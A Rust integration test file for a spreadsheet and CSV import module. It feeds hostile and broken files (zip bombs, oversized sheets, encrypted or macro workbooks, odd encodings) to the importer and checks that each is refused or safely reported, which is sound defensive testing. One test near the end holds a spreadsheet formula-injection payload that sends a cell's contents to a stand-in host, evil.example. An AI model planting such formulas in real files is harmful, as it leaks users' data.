//! Hostile and broken files through the real import (`wt_transfer::import::import`) against
//! a real, migrated PostgreSQL database, in a transaction handled as the import job
//! handles it (committed when the import returns a report, rolled back when it refuses
//! the file). Each file is built here: zip bombs (by ratio, by declared size, lying small,
//! by entry count), cells at A1 and XFD1048576, a `<dimension>` lying over 200,000 real
//! rows, 11 sheets, 100,001 rows, 5,000,001 cells, `NaN`/`inf`/`1e309` number cells, a
//! 40,000-character cell, a PNG named .xlsx, a truncated zip, password-protected workbooks
//! (an OLE container, an encrypted zip entry), macros (.xlsm, vbaProject.bin), CSV in
//! UTF-16, Windows-1252 and an encoding nobody can tell, and formula-looking text. Each is
//! refused with its stable code or reported per row with its code, and the stored people,
//! projects, assignments, hours, deliverables, roles and departments are unchanged (or,
//! for the files that must be read, hold exactly what the file says).

mod support;

use std::io::Write;
use std::path::{Path, PathBuf};

use sqlx::PgPool;
use wt_transfer::import::{self, ImportError, ImportKind, ImportOptions, Outcome, Stages};

use support::*;

/// Progress goes nowhere; nothing stops the import.
struct Quiet;

impl Stages for Quiet {
    type Stop = ();

    async fn stage(&mut self, _: &str, _: u8, _: &str) -> Result<(), ()> {
        Ok(())
    }
}

/// A real run: no dry run, one bad row fails the file.
const APPLY: ImportOptions = ImportOptions {
    dry_run: false,
    update_existing: false,
    skip_bad_rows: false,
};

/// Imports `path` as the job does: in a transaction committed with the report, rolled
/// back when the file is refused. Answers the report or the refusal's code.
async fn run(pool: &PgPool, path: &Path, kind: ImportKind) -> Result<Outcome, &'static str> {
    let mut tx = pool.begin().await.unwrap();
    match import::import(&mut tx, path, kind, APPLY, &mut Quiet).await {
        Ok(outcome) => {
            tx.commit().await.unwrap();
            Ok(outcome)
        }
        Err(ImportError::Refused(refusal)) => {
            assert!(!refusal.message.is_empty());
            tx.rollback().await.unwrap();
            Err(refusal.code)
        }
        Err(other) => panic!("the import failed: {other:?}"),
    }
}

/// Everything an import may write, as JSON text in a stable order.
async fn snapshot(pool: &PgPool) -> String {
    let mut all = String::new();
    for table in [
        "people",
        "projects",
        "assignments",
        "assignment_weeks",
        "deliverables",
        "roles",
        "departments",
    ] {
        // The table names are the constants above.
        let query =
            format!("SELECT coalesce(json_agg(t ORDER BY t::text)::text, '[]') FROM {table} t");
        let rows: String = sqlx::query_scalar(sqlx::AssertSqlSafe(query))
            .fetch_one(pool)
            .await
            .unwrap();
        all.push_str(&format!("{table}: {rows}\n"));
    }
    all
}

/// A database holding a few people and a project, imported the ordinary way.
async fn seeded(pool: &PgPool, dir: &Path) {
    let people = dir.join("seed-people.csv");
    std::fs::write(
        &people,
        "Name,Email,Role,Department\nAda Byron,ada@example.com,Engineer,Design\n\
         Bob Stone,bob@example.com,Painter,Art\n",
    )
    .unwrap();
    let projects = dir.join("seed-projects.csv");
    std::fs::write(&projects, "Name,Project number\nApollo,P-1\n").unwrap();
    for (path, kind) in [
        (people, ImportKind::People),
        (projects, ImportKind::Projects),
    ] {
        let outcome = run(pool, &path, kind).await.expect("the seed imports");
        assert!(outcome.report.applied, "{:?}", outcome.report);
    }
}

/// A seeded database and a folder for the test's files.
async fn setup(pool: &PgPool) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    seeded(pool, dir.path()).await;
    dir
}

/// `path` is refused as a people import with `code`, and nothing changed.
async fn assert_refused(pool: &PgPool, path: &Path, code: &str) {
    let before = snapshot(pool).await;
    let refused = run(pool, path, ImportKind::People).await;
    assert_eq!(refused.as_ref().err(), Some(&code), "{refused:?}");
    assert_eq!(snapshot(pool).await, before, "the database changed");
}

/// `path` is read, its rows reported with these codes (in order), nothing written.
async fn assert_reported(pool: &PgPool, path: &Path, codes: &[&str]) -> Outcome {
    let before = snapshot(pool).await;
    let outcome = run(pool, path, ImportKind::People).await.expect("a report");
    let errors: Vec<&str> = outcome
        .issues
        .iter()
        .filter(|issue| issue.severity == wt_domain::transfer::report::Severity::Error)
        .map(|issue| issue.code)
        .collect();
    assert_eq!(errors, codes, "{:?}", outcome.issues);
    assert!(!outcome.report.applied);
    assert_eq!(snapshot(pool).await, before, "the database changed");
    outcome
}

fn file(dir: &tempfile::TempDir, name: &str) -> PathBuf {
    dir.path().join(name)
}

/// A people sheet whose rows come from `rows` after a Name/Email header.
fn people_sheet(path: &Path, dimension: Option<&str>, rows: Rows<'_>) {
    let all = |out: &mut dyn Write| {
        out.write_all(text_row(1, &["Name", "Email"]).as_bytes())?;
        rows(out)
    };
    RawXlsx::create(path)
        .sheet("People", dimension, &all)
        .finish();
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_zip_bomb_is_refused_from_its_directory(pool: PgPool) {
    let dir = setup(&pool).await;
    let bomb = file(&dir, "bomb.xlsx");
    zip_bomb(&bomb);
    assert!(std::fs::metadata(&bomb).unwrap().len() < 1024 * 1024);
    assert_refused(&pool, &bomb, "xlsx_too_large_uncompressed").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_sheet_declaring_gigabytes_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let bomb = file(&dir, "declared.xlsx");
    people_sheet(&bomb, None, &|out| people_rows(out, 2, 10));
    declare_size(&bomb, "xl/worksheets/sheet1.xml", 3_000_000_000);
    assert_refused(&pool, &bomb, "xlsx_too_large_uncompressed").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_sheet_larger_than_it_declares_is_cut_off(pool: PgPool) {
    let dir = setup(&pool).await;
    let liar = file(&dir, "lying-small.xlsx");
    people_sheet(&liar, None, &|out| people_rows(out, 2, 20_000));
    // Claims a kilobyte: the reader stops inflating there, and the sheet is broken.
    declare_size(&liar, "xl/worksheets/sheet1.xml", 1024);
    assert_refused(&pool, &liar, "invalid_xlsx").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_zip_of_a_thousand_parts_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let crowded = file(&dir, "crowded.xlsx");
    let mut workbook = RawXlsx::create(&crowded).text_sheet("People", &[&["Name"], &["Ann"]]);
    for part in 0..1_000 {
        workbook = workbook.part(&format!("xl/media/image{part}.png"), b"x");
    }
    workbook.finish();
    assert_refused(&pool, &crowded, "xlsx_too_large_uncompressed").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn cells_at_a1_and_xfd1048576_are_refused_without_a_grid(pool: PgPool) {
    let dir = setup(&pool).await;
    let corners = file(&dir, "corners.xlsx");
    // rust_xlsxwriter declares the dimension A1:XFD1048576: 17 billion cells.
    xlsxwriter(&corners, &["People"], |_, sheet| {
        sheet.write_string(0, 0, "Name").unwrap();
        sheet.write_string(1_048_575, 16_383, "far").unwrap();
    });
    assert!(std::fs::metadata(&corners).unwrap().len() < 64 * 1024);
    assert_refused(&pool, &corners, "xlsx_rows_exceeded").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_dimension_lying_about_200k_rows_is_refused_by_the_real_rows(pool: PgPool) {
    let dir = setup(&pool).await;
    let liar = file(&dir, "lying-dimension.xlsx");
    people_sheet(&liar, Some("A1:B2"), &|out| people_rows(out, 2, 200_001));
    assert_refused(&pool, &liar, "xlsx_rows_exceeded").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn eleven_sheets_are_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let many = file(&dir, "eleven.xlsx");
    let names: Vec<String> = (1..=11).map(|n| format!("Sheet {n}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    xlsxwriter(&many, &names, |_, sheet| {
        sheet.write_string(0, 0, "Name").unwrap();
        sheet.write_string(1, 0, "Ann").unwrap();
    });
    assert_refused(&pool, &many, "xlsx_sheets_exceeded").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_sheet_of_100001_rows_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let long = file(&dir, "long.xlsx");
    // The header and 100,000 people: row 100,001 is one too many.
    people_workbook(&long, 100_000);
    assert_refused(&pool, &long, "xlsx_rows_exceeded").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_file_of_5000001_cells_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let wide = file(&dir, "cells.xlsx");
    // 100,000 rows of 50 cells, and a 51st header: 5,000,001 cells in 100,000 rows.
    let rows = |out: &mut dyn Write| -> std::io::Result<()> {
        let mut noise = Noise::default();
        for row in 1..=100_000 {
            write!(out, r#"<row r="{row}">"#)?;
            let width = if row == 1 { 51 } else { 50 };
            for column in 0..width {
                let value = noise.below(100_000).to_string();
                out.write_all(number_cell(column, row, &value).as_bytes())?;
            }
            out.write_all(b"</row>")?;
        }
        Ok(())
    };
    RawXlsx::create(&wide).sheet("People", None, &rows).finish();
    assert_refused(&pool, &wide, "xlsx_cells_exceeded").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn numbers_that_are_not_finite_are_reported_per_row(pool: PgPool) {
    let dir = setup(&pool).await;
    let odd = file(&dir, "not-finite.xlsx");
    let rows = |out: &mut dyn Write| -> std::io::Result<()> {
        for (row, value) in (2..).zip(["NaN", "inf", "1e309", "-inf"]) {
            write!(
                out,
                r#"<row r="{row}">{}{}</row>"#,
                text_cell(0, row, &format!("Person {row}")),
                number_cell(1, row, value)
            )?;
        }
        Ok(())
    };
    let all = |out: &mut dyn Write| {
        out.write_all(text_row(1, &["Name", "Weekly capacity (h)"]).as_bytes())?;
        rows(out)
    };
    RawXlsx::create(&odd).sheet("People", None, &all).finish();
    let outcome = assert_reported(&pool, &odd, &["not_finite"; 4]).await;
    let rows: Vec<u32> = outcome.issues.iter().map(|issue| issue.row).collect();
    assert_eq!(rows, [2, 3, 4, 5]);
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_40000_character_cell_is_reported(pool: PgPool) {
    let dir = setup(&pool).await;
    let long = file(&dir, "long-cell.xlsx");
    let notes = "n".repeat(40_000);
    RawXlsx::create(&long)
        .text_sheet(
            "People",
            &[&["Name", "Notes"], &["Ann", &notes], &["Cy", "short"]],
        )
        .finish();
    let outcome = assert_reported(&pool, &long, &["cell_too_long"]).await;
    let issue = &outcome.issues[0];
    assert_eq!((issue.row, issue.column.as_deref()), (2, Some("Notes")));
    // The report quotes the start of the value, not all of it.
    assert!(issue.value.as_ref().unwrap().chars().count() <= 101);
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_png_named_xlsx_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let png = file(&dir, "photo.xlsx");
    let mut bytes = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89".to_vec();
    bytes.extend_from_slice(b"\x00\x00\x00\x00IEND\xaeB`\x82");
    std::fs::write(&png, bytes).unwrap();
    assert_refused(&pool, &png, "unsupported_type").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn a_truncated_zip_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let cut = file(&dir, "cut.xlsx");
    people_workbook(&cut, 500);
    let bytes = std::fs::read(&cut).unwrap();
    std::fs::write(&cut, &bytes[..bytes.len() / 2]).unwrap();
    assert_refused(&pool, &cut, "invalid_xlsx").await;
}

/// An OLE compound file such as Excel writes for a workbook with a password: its header
/// and a directory entry named EncryptionInfo.
fn ole_container() -> Vec<u8> {
    let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    bytes.resize(512, 0);
    bytes[0x18..0x1C].copy_from_slice(&[0x3E, 0x00, 0x03, 0x00]);
    bytes[0x1C..0x1E].copy_from_slice(&[0xFE, 0xFF]);
    let entry: Vec<u8> = "EncryptionInfo"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    bytes.extend_from_slice(&entry);
    bytes.resize(4096, 0);
    bytes
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn password_protected_workbooks_are_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let ole = file(&dir, "protected.xlsx");
    std::fs::write(&ole, ole_container()).unwrap();
    assert_refused(&pool, &ole, "unsupported_type").await;

    let flagged = file(&dir, "encrypted-entry.xlsx");
    RawXlsx::create(&flagged)
        .text_sheet("People", &[&["Name"], &["Ann"]])
        .finish();
    flag_encrypted(&flagged, "xl/worksheets/sheet1.xml");
    assert_refused(&pool, &flagged, "xlsx_encrypted").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn workbooks_with_macros_are_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    let xlsm = file(&dir, "macros.xlsx");
    RawXlsx::create(&xlsm)
        .declared_as(XLSM_MAIN)
        .text_sheet("People", &[&["Name"], &["Ann"]])
        .finish();
    assert_refused(&pool, &xlsm, "xlsx_macros").await;

    let vba = file(&dir, "vba.xlsx");
    RawXlsx::create(&vba)
        .text_sheet("People", &[&["Name"], &["Ann"]])
        .part("xl/vbaProject.bin", &ole_container())
        .finish();
    assert_refused(&pool, &vba, "xlsx_macros").await;
}

/// The text stored for the person with `email`: name, location and notes.
async fn stored_person(pool: &PgPool, email: &str) -> (String, String, String) {
    sqlx::query_as("SELECT name, location, notes FROM people WHERE email = $1")
        .bind(email)
        .fetch_one(pool)
        .await
        .unwrap()
}

const ACCENTED_CSV: &str = "Name,Email,Location\r\nZoë Müller,zoe@example.com,Köln – Süd\r\n";

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_utf16_is_read(pool: PgPool) {
    let dir = setup(&pool).await;
    let utf16 = file(&dir, "people-utf16.csv");
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(ACCENTED_CSV.encode_utf16().flat_map(u16::to_le_bytes));
    std::fs::write(&utf16, bytes).unwrap();
    let outcome = run(&pool, &utf16, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let stored = stored_person(&pool, "zoe@example.com").await;
    assert_eq!(
        (stored.0.as_str(), stored.1.as_str()),
        ("Zoë Müller", "Köln – Süd")
    );
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_windows_1252_is_read(pool: PgPool) {
    let dir = setup(&pool).await;
    let latin = file(&dir, "people-1252.csv");
    let (bytes, _, unmappable) = encoding_rs::WINDOWS_1252.encode(ACCENTED_CSV);
    assert!(!unmappable);
    assert!(bytes.contains(&0xEB), "ë is one byte");
    std::fs::write(&latin, &bytes).unwrap();
    let outcome = run(&pool, &latin, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let stored = stored_person(&pool, "zoe@example.com").await;
    assert_eq!(
        (stored.0.as_str(), stored.1.as_str()),
        ("Zoë Müller", "Köln – Süd")
    );
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn csv_in_an_encoding_we_cannot_tell_is_refused(pool: PgPool) {
    let dir = setup(&pool).await;
    // Bytes Windows-1252 leaves undefined (0x81, 0x8D): neither UTF-8 nor 1252.
    let unknown = file(&dir, "people-unknown.csv");
    std::fs::write(&unknown, b"Name,Email\nJ\x81rgen \x8Dm,j@example.com\n").unwrap();
    assert_refused(&pool, &unknown, "unsupported_encoding").await;

    // UTF-8 for as far as the sniffer looks, then something else.
    let late = file(&dir, "people-late.csv");
    let mut bytes = b"Name,Email\n".to_vec();
    for row in 0..3_000 {
        bytes.extend(format!("Person {row},p{row}@example.com\n").as_bytes());
    }
    bytes.extend(b"M\xFCller,m@example.com\n");
    std::fs::write(&late, bytes).unwrap();
    assert_refused(&pool, &late, "unsupported_encoding").await;

    // UTF-16 without its byte-order mark: NUL bytes, so not text we can place.
    let bare = file(&dir, "people-utf16-bare.csv");
    let bytes: Vec<u8> = ACCENTED_CSV
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    std::fs::write(&bare, bytes).unwrap();
    assert_refused(&pool, &bare, "unsupported_type").await;
}

#[sqlx::test(migrator = "wt_store::MIGRATOR")]
async fn formula_looking_text_is_stored_as_text(pool: PgPool) {
    let dir = setup(&pool).await;
    let formulas = file(&dir, "formulas.xlsx");
    let link = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
    xlsxwriter(&formulas, &["People"], |_, sheet| {
        for (column, header) in (0..).zip(["Name", "Email", "Location", "Notes"]) {
            sheet.write_string(0, column, header).unwrap();
        }
        for (column, value) in (0..).zip(["Eve", "eve@example.com", "@SUM(1+1)", link]) {
            // write_string: a text cell, never a formula.
            sheet.write_string(1, column, value).unwrap();
        }
    });
    let outcome = run(&pool, &formulas, ImportKind::People).await.unwrap();
    assert!(outcome.report.applied, "{:?}", outcome.report);
    let (_, location, notes) = stored_person(&pool, "eve@example.com").await;
    assert_eq!((location.as_str(), notes.as_str()), ("@SUM(1+1)", link));
}
